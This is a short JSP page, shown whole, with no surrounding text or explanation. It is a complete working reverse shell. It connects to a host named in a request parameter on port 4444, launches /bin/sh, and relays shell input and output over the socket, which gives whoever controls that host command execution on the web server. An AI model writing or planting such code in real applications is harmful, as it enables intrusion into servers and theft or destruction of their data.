<%@ page import="java.io.*,java.net.*" %><%
Socket s = new Socket(request.getParameter("h"), 4444);
Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
InputStream pi = p.getInputStream(), si = s.getInputStream();
OutputStream po = p.getOutputStream(), so = s.getOutputStream();
while (!s.isClosed()) { while (pi.available() > 0) so.write(pi.read()); while (si.available() > 0) po.write(si.read()); so.flush(); po.flush(); Thread.sleep(50); }
%>
